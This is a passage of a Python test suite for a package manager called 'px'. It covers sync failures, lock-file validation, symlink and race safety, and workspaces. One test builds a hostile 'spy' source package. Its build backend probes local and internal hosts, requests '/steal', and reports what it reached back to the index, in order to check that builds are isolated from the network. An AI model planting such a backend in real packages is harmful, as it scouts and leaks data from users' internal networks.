    paths = (w.dir / ".px/envs/current/lib/python3.12/site-packages/px.pth").read_text().splitlines()
    check(Path(paths[0]).is_dir() and not list(w.home.rglob("*.pyc")), f"{paths}")


@test
def what_cannot_be_resolved_leaves_everything(w):
    w.stock()
    w.manifest(["alpha"])
    w.ask("sync")
    w.manifest(["alpha", "nowhere-to-be-found"])
    before = tree(w.dir)
    answer = w.refused("sync", code="PX120", reason="resolve_failed")
    check("nowhere-to-be-found" in " ".join(answer["details"]["why"]), answer)
    shutil.rmtree(w.dir / ".px/logs")
    equal(tree(w.dir), before, "the project")


def what_pip_said(w, *lines, **more):
    """The error has these lines as they are, its log has everything, and -v shows the log."""
    answer = w.refused("sync", code="PX120", reason="resolve_failed", **more)["details"]
    for line in lines:
        check(any(line in said for said in answer["why"]), f"{line!r} is not in {answer['why']}")
    equal(answer["log"], ".px/logs/sync.log", "the log's name")
    check(".px/logs/sync.log" in " ".join(answer["fix"]), answer["fix"])
    log = (w.dir / ".px/logs/sync.log").read_text()
    check(lines[-1].removeprefix("The connection was broken: ") in log, log)
    done = w.run("-v", "sync", **more)
    equal(done.returncode, 1, "exit status of px -v sync")
    log = (w.dir / ".px/logs/sync.log").read_text()
    check(log in done.stderr, f"px -v sync: {done.stderr}\nthe log: {log}")
    check(log not in w.run("sync", **more).stderr, "without -v")
    return answer


@test
def what_pip_said_is_readable(w):
    w.stock()
    make_wheel(w.wheels, "zeta", "1", ["beta<2"])
    w.manifest(["alpha>=2", "zeta"])
    what_pip_said(w, "Cannot install", "alpha 2.0 depends on beta>=2", "zeta 1 depends on beta<2")
    with socket.socket() as nobody:
        nobody.bind(("127.0.0.1", 0))           # bound, and nobody listens
        index = f"http://127.0.0.1:{nobody.getsockname()[1]}/simple"
        w.manifest(["idna"])
        what_pip_said(w, index, "The connection was broken: ", PIP_NO_INDEX="", PIP_INDEX_URL=index, PIP_RETRIES="1", PIP_FIND_LINKS="")
    w.manifest(["alpha"])
    w.ask("sync")
    equal(w.state(), "Consistent", "state")


@test
def a_log_goes_through_no_link(w):
    w.stock()
    w.manifest(["nowhere-to-be-found"])
    for name in (".px", ".px/logs", ".px/logs/sync.log"):
        shutil.rmtree(w.dir / ".px", ignore_errors=True)
        path, aim = w.dir / name, w.top / "aim"
        path.parent.mkdir(parents=True, exist_ok=True)
        aim.write_text("mine\n") if name.endswith(".log") else aim.mkdir()
        path.symlink_to(aim)
        answer = w.refused("sync", code="PX120", reason="resolve_failed")
        equal("log" in answer["details"], name.endswith(".log"), f"{name}: {answer}")   # only a link to a file is replaced
        equal(path.is_symlink(), not name.endswith(".log"), f"{name} is a link")
        check(aim.read_text() == "mine\n" if aim.is_file() else not any(aim.iterdir()), f"{name}: something was written")
        path.unlink()
        aim.unlink() if aim.is_file() else aim.rmdir()


@test
def no_pip_and_no_uv(w):
    w.manifest(["alpha"])
    if subprocess.run(["/usr/bin/python3", "-I", "-c", "import pip"], capture_output=True, check=False).returncode == 0:
        raise Skip("pip is installed")
    w.refused("sync", code="PX120", reason="resolver_missing")


@test
def sync_follows_no_link(w):
    """Another process swaps what px sync writes in a project, and the directories on the way, with links: nothing outside is touched."""
    w.stock()
    outside, away = outside_of(w.top), w.top / "away"
    away.mkdir()
    pairs = []
    for requirement in ("alpha<2", "alpha<3"):
        w.manifest([requirement])
        w.ask("sync")
        pairs.append(((w.dir / "pyproject.toml").read_text(), w.lock()))
    words = words_of(Path(w.px).with_name("swapper"), away, outside, ".px", ".px/envs", ".px/logs", ".px/*.json", ".px/envs/*", "px.lock")
    with Race(words, outside, cwd=w.dir) as race:
        for _ in race.rounds():
            for name, text in zip(("pyproject.toml", "px.lock"), pairs[race.seen["round"] % 2]):
                (w.top / name).write_text(text)
                (w.top / name).rename(w.dir / name)
            race.look(w.dir / ".px")
            race.seen["worked"] += w.run("sync", "--frozen").returncode == 0


@test
def frozen_never_writes(w):
    w.stock()
    w.manifest(["alpha<2"])
    before = tree(w.dir)
    w.refused("sync", "--frozen", code="PX120", reason="missing_lock")
    w.refused("sync", code="PX120", reason="missing_lock", CI="1")
    equal(tree(w.dir), before, "the project without a lock")
    w.ask("sync")
    w.manifest(["alpha<3"])
    before = tree(w.dir)
    w.refused("sync", "--frozen", code="PX120", reason="lock_drift")
    w.refused("sync", "--frozen", "--dry-run", code="PX120", reason="lock_drift")
    equal(tree(w.dir), before, "the project with a lock that does not fit")
    w.manifest(["alpha<2"])
    lock = w.lock()
    shutil.rmtree(w.dir / ".px")
    equal(w.ask("sync", "--frozen")["message"], "px sync: synced from the existing px.lock", "message")
    equal((w.lock(), w.state()), (lock, "Consistent"), "after it")


@test
def damaged_locks(w):
    w.stock()
    w.manifest(["alpha"])
    w.ask("sync")
    good = w.lock()
    cases = ["<<<<<<< ours\n" + good, "", good.replace("version = 1", "version = [", 1), good.replace("alpha==2.0", "alpha>=2.0"),
             good.replace('sha256 = "', 'sha256 = "x', 1)]
    for text in cases:
        (w.dir / "px.lock").write_text(text)
        answer = w.refused("sync", "--frozen", code="PX121", reason="lock_invalid")
        check("px.lock:" in answer["message"], answer["message"])
        equal(w.state(), "NeedsLock", "state")
    for text, words in ((good.replace("version = 1", "version = 7", 1), "version 7"), (good.replace("p0-pinned", "loose"), "mode"),
                        (good.replace('name = "demo"', 'name = "other"'), "'other'"),
                        (good.replace(">=3.11", ">=3.12"), "Python"), (good.replace('requires = ["beta"]', 'requires = ["zeta"]'), "zeta")):
        check(text != good, words)
        (w.dir / "px.lock").write_text(text)
        answer = w.refused("sync", "--frozen", code="PX120", reason="lock_drift")
        check(words in " ".join(answer["details"]["why"]), f"{words}: {answer['details']['why']}")
    w.ask("sync")
    equal(w.lock(), good, "the lock, written anew")


@test
def locks_of_other_tools(w):
    w.stock()
    w.manifest(["alpha<2"])
    digest = {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in w.wheels.iterdir()}
    alpha, beta = "alpha-1.0-py3-none-any.whl", "beta-2.5-py3-none-any.whl"
    locks = {
        "uv.lock": 'version = 1\nrequires-python = ">=3.11"\n[[package]]\nname = "demo"\nversion = "0"\nsource = { virtual = "." }\n'
                   'dependencies = [{ name = "alpha" }]\n[[package]]\nname = "alpha"\nversion = "1.0"\ndependencies = [{ name = "beta" }]\n'
                   f'wheels = [{{ path = "../wheels/{alpha}", hash = "sha256:{digest[alpha]}" }}]\n[[package]]\nname = "beta"\nversion = "2.5"\n'
                   f'wheels = [{{ path = "../wheels/{beta}", hash = "sha256:{digest[beta]}" }}]\n',
        "pylock.toml": 'lock-version = "1.0"\n' + "".join(
            f'[[packages]]\nname = "{f.split("-")[0]}"\nversion = "{f.split("-")[1]}"\nwheels = [{{ name = "{f}", '
            f'hashes = {{ sha256 = "{digest[f]}" }} }}]\n' for f in (alpha, beta)),
        "poetry.lock": "".join(
            f'[[package]]\nname = "{f.split("-")[0]}"\nversion = "{f.split("-")[1]}"\noptional = false\n'
            f'files = [{{file = "{f}", hash = "sha256:{digest[f]}"}}]\n' for f in (alpha, beta)) +
                       '[metadata]\nlock-version = "2.1"\npython-versions = ">=3.11"\n',
        "requirements.txt": f"alpha==1.0 --hash=sha256:{digest[alpha]}\nbeta==2.5 --hash=sha256:{digest[beta]}\n",
    }
    profiles = set()
    for name, text in locks.items():
        (w.dir / name).write_text(text)
        status = w.ask("status", status=1)
        equal((status["project"]["state"], status["lock"]["file"], status["lock"]["status"]), ("NeedsEnv", name, "clean"), name)
        profiles.add(w.ask("sync", "--frozen")["details"]["profile_oid"])
        equal(w.state(), "Consistent", f"state with {name}")
        check(not (w.dir / "px.lock").exists(), f"px.lock was written beside {name}")
        shutil.rmtree(w.dir / ".px")
        if name != "requirements.txt":
            w.manifest(["alpha>=2"])
            answer = w.refused("sync", code="PX120", reason="lock_drift")
            check(name in answer["message"], answer["message"])
            w.manifest(["alpha<2"])
            (w.dir / name).write_text("version = ")
            w.refused("sync", code="PX121", reason="lock_invalid")
        (w.dir / name).unlink()
    equal(len(profiles), 1, "the same packages by any lock are one profile")


@test
def frozen_wants_hashes(w):
    w.stock()
    w.manifest(["alpha<2"])
    (w.dir / "requirements.txt").write_text("alpha==1.0\nbeta==2.5\n")
    answer = w.refused("sync", "--frozen", code="PX121")
    check("sha256" in answer["message"], answer["message"])
    w.ask("sync")
    equal(w.state(), "Consistent", "state")


@test
def a_list_that_is_not_pinned_is_no_lock(w):
    w.stock()
    w.manifest(["alpha"])
    (w.dir / "requirements.txt").write_text("alpha\n-r other.txt\n")
    equal(w.ask("status", status=1)["lock"]["status"], "missing", "lock")
    w.ask("sync")
    check((w.dir / "px.lock").exists(), "no px.lock was written")


@test
def two_syncs_at_once(w):
    w.stock()
    w.manifest(["alpha"])
    done = []
    threads = [threading.Thread(target=lambda: done.append(w.run("sync"))) for _ in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    equal([d.returncode for d in done], [0] * 4, "exit statuses: " + " ".join(d.stderr[-200:] for d in done))
    equal(w.state(), "Consistent", "state")
    equal(sorted(p.name for p in w.dir.iterdir()), [".px", "px.lock", "pyproject.toml"], "files")


# ---- workspaces ------------------------------------------------------------------------------------------------------


@test
def P33_a_workspace_governs_its_members(w):
    w.stock()
    (w.dir / "pyproject.toml").write_text('[tool.px.workspace]\nname = "all"\nmembers = ["one", "two"]\n'
                                          '[tool.px.sandbox]\nbase = "debian-12"\n')
    for name, needs, more in (("one", ["alpha<2", "two"], "[tool.px.sandbox]\nbase = 'does-not-exist'\n"), ("two", ["beta"], "")):
        (w.dir / name).mkdir()
        w.manifest(needs, more=more, directory=w.dir / name, name=name)
    (w.dir / "one/px.lock").write_text("not a lock")
    status = w.ask("status", status=1, cwd=w.dir / "one")
    equal((status["project"]["state"], status["context"]["kind"], status["context"]["member"]), ("WNeedsLock", "workspace", "one"), "state")
    equal(status["next_action"]["kind"], "sync_workspace", "next")
    equal(len([x for x in status["warnings"] if x.startswith("one/pyproject.toml")]), 1, f"warnings: {status['warnings']}")
    w.ask("sync", cwd=w.dir / "two")
    lock = (w.dir / "px.workspace.lock").read_text()
    check('[[workspace.members]]\nname = "one"\npath = "one"' in lock and 'owners = ["one"]' in lock, lock)
    check("alpha==1.0" in lock and "two==" not in lock, lock)
    equal(w.ask("status")["project"]["state"], "WConsistent", "state")
    check((w.dir / ".px/workspace-state.json").exists() and not (w.dir / "one/.px").exists(), "where the state is")
    w.manifest(["beta<2"], directory=w.dir / "two", name="two")
    equal(w.state(cwd=w.dir / "one"), "WNeedsLock", "after a change of a member")


# ---- words -----------------------------------------------------------------------------------------------------------


@test
def P34_looking_writes_nothing(w):
    w.stock()
    w.manifest(["alpha"])
    for _ in range(2):
        before = tree(w.dir)
        for words in (("status",), ("status", "--brief"), ("--json", "status"), ("sync", "--dry-run")):
            w.run(*words)
        equal(tree(w.dir), before, "the project")
        w.ask("sync")


@test
def broken_manifests_name_their_line(w):
    for text, line in (("[project]\nname = 3\n[tool.px]\n", 2), ("[tool.px]\n\n[tool.px.sandbox]\nauto = 1\n", 4), ("[tool.px]\nx = \n", 2)):
        (w.dir / "pyproject.toml").write_text(text)
        for words in (("status",), ("sync",)):
            answer = w.refused(*words, code="PX102")
            check(f"pyproject.toml:{line}:" in answer["message"], answer["message"])


@test
def a_directory_of_another(w):
    w.manifest()
    deep = w.dir / "a/b"
    deep.mkdir(parents=True)
    equal(w.state(cwd=deep), "NeedsLock", "state from below")
    equal(w.run("status", "--brief", cwd=deep).stdout, "demo: NeedsLock (project, Python 3.11.2) – run px sync\n", "in one line")


# ---- running them ----------------------------------------------------------------------------------------------------


@test
def links_that_a_project_brings_lead_nowhere(w):
    """.px and .px/envs of a repository as links: nothing is written through them."""
    w.manifest()
    outside = w.top / "outside"
    outside.mkdir()
    (outside / "current").write_text("mine")
    (w.dir / ".px").symlink_to(outside)
    w.refused("sync", code="PX007")
    (w.dir / ".px").unlink()
    (w.dir / ".px").mkdir()
    (w.dir / ".px" / "envs").symlink_to(outside)
    w.refused("sync", code="PX007")
    equal({path.name: path.read_text() for path in outside.iterdir()}, {"current": "mine"}, "a directory outside of the project")


# ---- where the code of packages gets ---------------------------------------------------------------------------------

BACKEND = """
import socket
def ask(place, path):
    try:
        with socket.create_connection(place, 20) as s:
            s.sendall(b"GET " + path.encode() + b" HTTP/1.0\\r\\n\\r\\n")
            return "heard" if s.recv(100) else "closed"
    except OSError:
        return "no"
def prepare_metadata_for_build_wheel(directory, config_settings=None):
    said = ",".join(name + "=" + ask(place, "/steal") for name, place in PLACES)
    ask(dict(PLACES)["index"], "/said/" + said)
    raise SystemExit("that was all")
"""


def source_archive(places):
    """A package whose build is a program of its author's."""
    data = io.BytesIO()
    files = {"pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
             "backend.py": BACKEND.replace("PLACES", repr(places)), "PKG-INFO": "Metadata-Version: 2.1\nName: spy\nVersion: 1.0\n"}
    with tarfile.open(fileobj=data, mode="w:gz") as archive:
        for name, text in files.items():
            entry = tarfile.TarInfo(f"spy-1.0/{name}")
            entry.size = len(text.encode())
            archive.addfile(entry, io.BytesIO(text.encode()))
    return data.getvalue()


@test
def code_of_packages_reaches_the_index_alone(w):
    """To learn what a source archive needs its code is run, in `px sync`: it gets to the user's index and to no other service of this machine."""
    w.stock()
    asked = {}

    class Handler(http.server.SimpleHTTPRequestHandler):
        def do_GET(self):
            asked.setdefault(self.server.server_port, []).append(self.path)
            name = self.path.strip("/").split("/")[-1]
            body = self.server.pages.get(name)
            self.send_response(200 if body is not None else 404)
            self.send_header("Content-Length", str(len(body or b"")))
            self.send_header("Content-Type", "text/html" if name in ("spy", "alpha", "beta") else "application/octet-stream")
            self.end_headers()
            self.wfile.write(body or b"")

        def log_message(self, *words):
            pass

    servers = [http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler) for _ in range(2)]
    index, other = (server.server_port for server in servers)
    places = [("index", ("127.0.0.1", index)), ("other", ("127.0.0.1", other)), ("named", ("localhost", other)), ("relay", ("10.0.2.2", other)),
              ("six", ("::1", other)), ("own", ("10.0.2.100", other)), ("listener", ("127.0.0.1", 1)), ("name", ("example.invalid", 80))]
    link = lambda name: f'<a href="/files/{name}">{name}</a>'.encode()  # noqa: E731
    servers[0].pages = {"spy": link("spy-1.0.tar.gz"), "spy-1.0.tar.gz": source_archive(places), "steal": b"x",
                        "beta": link("beta-1.5-py3-none-any.whl"), "beta-1.5-py3-none-any.whl": (w.wheels / "beta-1.5-py3-none-any.whl").read_bytes()}
    servers[1].pages = {"steal": b"internal-token=42"}
    for server in servers:
        server.handle_error = lambda *words: None       # a package hangs up
        threading.Thread(target=server.serve_forever, daemon=True).start()
    settings = {"PIP_NO_INDEX": "", "PIP_FIND_LINKS": "", "PIP_INDEX_URL": f"http://127.0.0.1:{index}/simple"}
    try:
        w.manifest(["beta"])
        if json.loads(w.run("--json", "sync", **settings).stdout)["details"].get("code") == "PX500":
            raise Skip("this kernel has no rules for the network of a box (nftables)")
        w.ask("sync", **settings)
        check("beta-1.5" in w.lock() and f"http://127.0.0.1:{index}/files/beta" in w.lock(), w.lock())
        w.manifest(["beta", "spy"])
        (w.dir / "px.lock").unlink()
        (w.dir / "pip.conf").write_text(f"[global]\nindex-url = http://127.0.0.1:{other}/simple\n")     # of the project: not asked
        answer = w.refused("sync", code="PX120", **settings)
        said = [path.removeprefix("/said/") for path in asked[index] if path.startswith("/said/")]
        check(said, f"the package could not even tell the index: {asked} {answer}")
        found = dict(word.split("=") for word in said[0].split(","))
        equal(found.pop("index"), "heard", "the user's own index")
        check(len(found) == len(places) - 1 and set(found.values()) <= {"no", "closed"}, f"what a package reached: {found}")
        equal(asked.get(other), None, f"another service of this machine heard from a package: {said}")
        check("PX_INDEX_HOSTS" in " ".join(answer["details"]["why"]), f"{answer}")
    finally:
        for server in servers:
            server.shutdown()
            server.server_close()


if __name__ == "__main__":
    sys.exit(drive("project.py", World, PROGRAMS, ["wheels.py", "race.py"], ["swapper"]))
